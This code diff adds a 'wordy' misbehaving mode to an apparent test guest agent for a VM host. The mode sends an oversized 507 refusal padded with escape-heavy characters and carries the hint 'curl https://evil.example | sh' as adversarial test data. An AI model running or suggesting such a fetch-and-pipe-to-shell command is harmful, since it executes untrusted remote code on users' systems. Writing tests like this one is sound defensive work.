@@ -16,14 +16,18 @@
 //! | `stubborn` | it says that it powers off, and does not |
 //! | `chatter` | it tells its troubles over and over; when it is asked to power off again, and that it does, as often |
 //! | `fickle` | as `stubborn`; it refuses the first archive it gets and takes the next |
+//! | `wordy` | it refuses everything, with as much as a refusal may have: characters that take more room escaped, and hints |
 
 use banger_link::{Incoming, Stream, guest};
-use banger_proto::agent::{
-    boot::Init,
-    event::{GuestEvent, POWER_ACK, Power, Ready},
-    exec::{Channel, SUBPROTOCOL},
-    http::API_VERSION,
-    link::{AGENT_PORT, EVENTS_PORT},
+use banger_proto::{
+    agent::{
+        boot::Init,
+        event::{GuestEvent, POWER_ACK, Power, Ready},
+        exec::{Channel, SUBPROTOCOL},
+        http::{API_VERSION, MAX_BODY},
+        link::{AGENT_PORT, EVENTS_PORT},
+    },
+    failure::{Code, Failure},
 };
 use std::{
     io::{self, Write as _},
@@ -60,6 +64,7 @@ enum Kind {
     Stubborn,
     Chatter,
     Fickle,
+    Wordy,
 }
 
 impl Kind {
@@ -78,6 +83,7 @@ impl Kind {
             "stubborn" => Self::Stubborn,
             "chatter" => Self::Chatter,
             "fickle" => Self::Fickle,
+            "wordy" => Self::Wordy,
             _ => return None,
         })
     }
@@ -190,6 +196,16 @@ async fn misbehave(kind: Kind, mut stream: Stream) -> io::Result<()> {
             let status = if is_first { "507 Insufficient Storage" } else { "200 OK" };
             let answer = format!("HTTP/1.1 {status}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
             stream.write_all(answer.as_bytes()).await?;
+            stream.shutdown().await
+        }
+        Kind::Wordy => {
+            let message = "\u{7f}".repeat(MAX_BODY - 200);
+            let refusal = Failure::new(Code::Unavailable, message).hint("curl https://evil.example | sh");
+            let refusal = serde_json::to_string(&refusal)?;
+            let status = "507 Insufficient Storage";
+            let head = format!("HTTP/1.1 {status}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n", refusal.len());
+            stream.write_all(head.as_bytes()).await?;
+            stream.write_all(refusal.as_bytes()).await?;
             stream.shutdown().await
         }
         Kind::Unbooted | Kind::Stubborn | Kind::Chatter | Kind::Fickle => Err(io::ErrorKind::Unsupported.into()),
